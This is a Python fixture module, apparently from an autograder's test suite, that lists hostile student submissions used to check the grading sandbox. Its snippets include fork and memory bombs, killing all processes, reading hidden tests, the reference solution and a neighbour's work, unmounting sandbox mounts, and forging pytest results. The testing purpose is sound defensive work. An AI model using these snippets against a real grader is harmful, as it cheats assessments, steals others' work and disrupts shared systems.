"""Hostile submissions for the batch grader's own tests.

Each attack is an ex01_tensors module with a snippet injected, at import
(``where="import"``) or at the top of ``to_float_image`` (``where="call"``, the first
function the tests call). Disruptions are built on the reference (so we see that
tests completed before the disruption keep their points); thefts are built on the
stub (so a successful theft would gain points). Snippets are formatted with the
paths the attacker is assumed to know:
``{kit}`` (the kit checkout), ``{canary}`` (a file outside every submission),
``{neighbour}`` (another student's folder), ``{port}`` (a listening socket on the
host's loopback).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    base: str
    """``reference`` or ``stub``: the module the snippet is injected into."""
    where: str
    """``import`` (module top level) or ``call`` (top of to_float_image)."""
    code: str
    points: tuple[float, float]
    """Bounds on the attacker's ex01 score (out of 20) when the sandbox holds."""
    reason: str | None = None
    """A phrase some test's message must contain (why points were lost)."""
    contained: bool = True
    """False where the README's threat model says the vector cannot be closed in-process;
    such attacks must at least be flagged for the instructor."""
    flag: str | None = None
    """A static flag kind (grading/batch/static_flags/) the scan must raise."""


WRONG = ("\ndef to_float_image(img):\n    return img\n\ndef normalize(x, mean, std):\n"
         "    return x\n\ndef linear_forward(x, weight, bias):\n    return x\n\n"
         "def get_device():\n    return 'cpu'\n")
"""Wrong answers, appended after a patch that would make wrong answers pass."""

FORGE = (
    "import os, json, re, glob\n"
    "ids = []\n"
    "for path in glob.glob(os.path.join(os.getcwd(), '*', 'test_ex01*.py')):\n"
    "    rel = os.path.relpath(path, os.getcwd())\n"
    "    src = open(path).read()\n"
    "    ids += [rel + '::' + n for n in re.findall(r'^def (test_\\w+)', src, re.M)]\n"
    "for fd in map(int, os.listdir('/proc/self/fd')):\n"
    "    for i in ids:\n"
    "        try:\n"
    "            os.write(fd, (json.dumps({'nodeid': i, 'status': 'passed'}) + '\\n').encode())\n"
    "        except OSError:\n"
    "            break\n"
    "os._exit(0)")

ATTACKS = (
    Attack("loop-import", "reference", "import", "while True:\n    pass", (0, 0), "délai"),
    Attack("loop-call", "reference", "call", "while True:\n    pass", (1, 19), "délai"),
    Attack("sleep-call", "reference", "call", "import time\ntime.sleep(10_000)", (1, 19),
           "délai"),
    Attack("memory-bomb", "reference", "call",
           "hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))", (0, 19), "mémoire"),
    Attack("fork-bomb", "reference", "import",
           "import os\nfor _ in range(200):\n    try:\n        os.fork()\n"
           "    except OSError:\n        pass", (0, 20), flag="os-process"),
    Attack("exit-at-import", "reference", "import", "import os\nos._exit(0)", (0, 0),
           "arrêté", flag="exit"),
    # The grader's own fault codes, forged: confirmed against the reference, a crash.
    Attack("forge-kit-error", "stub", "import", "import os\nos._exit(72)", (0, 0),
           "la référence passe", flag="exit"),
    Attack("forge-sandbox-error", "reference", "call", "import os\nos._exit(71)", (0, 19),
           "la référence passe", flag="exit"),
    Attack("sys-exit-in-call", "reference", "call", "import sys\nsys.exit(0)", (1, 19),
           "SystemExit", flag="exit"),
    Attack("segfault", "reference", "call", "import ctypes\nctypes.string_at(0)", (0, 19),
           "SIGSEGV", flag="import-ctypes"),
    Attack("stdout-flood", "reference", "call",
           "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(1024):\n"
           "    sys.stdout.write(chunk)", (0, 20)),
    Attack("huge-file", "reference", "call",
           "with open('big.bin', 'wb') as f:\n    for _ in range(1024):\n"
           "        f.write(b'x' * (1 << 20))", (1, 19), "File too large"),
    Attack("import-reference", "stub", "import",
           "import reference.ex01_tensors as _ref\nglobals().update(vars(_ref))", (0, 0),
           flag="import-reference"),
    Attack("read-reference-file", "stub", "import",
           "exec(open('{kit}/reference/ex01_tensors.py').read())", (0, 0)),
    Attack("read-hidden-tests", "reference", "call",
           "import glob\nleak = ''.join(open(p).read() for p in "
           "glob.glob('/tmp/**/hidden/*.py', recursive=True))\nraise ValueError(leak)", (1, 19)),
    Attack("read-other-hidden", "stub", "import",
           "import glob\nsrc = ''.join(open(p).read() for p in "
           "glob.glob('{kit}/grading/hidden/*.py') + "
           "glob.glob('/tmp/**/test_ex02*.py', recursive=True))\n"
           "assert not src, 'found hidden tests of another exercise'", (0, 0)),
    Attack("read-neighbour", "stub", "import",
           "exec(open('{neighbour}/ex01_tensors.py').read())", (0, 0)),
    Attack("write-canary", "stub", "import", "open('{canary}', 'w').write('pwned')", (0, 0)),
    Attack("network", "stub", "import",
           "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)"
           ".sendall(b'leak')", (0, 0), flag="import-socket"),
    Attack("write-conftest", "stub", "import",
           "import os\nfor d in ('.', '..', '../tests', '../hidden'):\n    try:\n"
           "        open(os.path.join(os.path.dirname(__file__), d, 'conftest.py'), 'w').write("
           "'import pytest\\n@pytest.hookimpl(wrapper=True)\\ndef pytest_runtest_makereport("
           "item, call):\\n    r = yield\\n    r.outcome = \"passed\"\\n    return r\\n')\n"
           "    except OSError:\n        pass", (0, 0)),
    Attack("patch-allclose", "stub", "import",
           "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a: True"
           + WRONG, (0, 0), "sabotage"),
    Attack("global-state", "reference", "import",
           "import torch\ntorch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)",
           (20, 20)),
    Attack("daemon", "reference", "import",
           "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
           "        time.sleep(3600)\n    os._exit(0)", (20, 20), flag="os-process"),
    Attack("kill-everyone", "reference", "call", "import os, signal\nos.kill(-1, signal.SIGKILL)",
           (0, 19), "SIGKILL"),
    # Undo the sandbox from inside: unmount the covers, write into the runtime or the kit.
    Attack("unmount-covers", "stub", "import",
           "import ctypes\nlibc = ctypes.CDLL(None)\nfor p in ('{kit}', '/tmp', '/home', "
           "'/root', '{kit}/reference'):\n    libc.umount2(p.encode(), 2)\n"
           "exec(open('{kit}/reference/ex01_tensors.py').read())", (0, 0),
           flag="import-ctypes"),
    Attack("write-runtime", "stub", "import",
           "import os, sys, torch\nfor d in (sys.prefix, os.path.dirname(torch.__file__), "
           "'{kit}/grading', '{kit}'):\n    try:\n        open(os.path.join(d, "
           "'dlkit-pwned.txt'), 'w').write('pwned')\n    except OSError:\n        pass",
           (0, 0)),
    # In-process forgery: code running inside the test process can rewrite pytest's and
    # the kit's reporting. Not closable there (README, threat model): flagged instead.
    Attack("forge-reports", "stub", "import",
           "import _pytest.reports\n_pytest.reports.TestReport.failed = property(lambda s: False)",
           (0, 20), contained=False, flag="import-_pytest"),
    Attack("forge-results-pipe", "stub", "import", FORGE, (0, 20), contained=False,
           flag="exit"),
)


def inject(base_source: str, attack: Attack, **paths: object) -> str:
    """``base_source`` (reference or stub) with the attack's snippet formatted and injected."""
    code = attack.code
    for key, value in paths.items():
        code = code.replace("{" + key + "}", str(value))
    if attack.where == "import":
        return base_source + "\n\n" + code + "\n"
    marker = "def to_float_image(img: torch.Tensor) -> torch.Tensor:\n"
    start = base_source.index(marker)
    body_at = base_source.index('    """\n', base_source.index('"""', start) + 3) + 8
    body = "".join(f"    {line}\n" for line in code.splitlines())
    return base_source[:body_at] + body + base_source[body_at:]
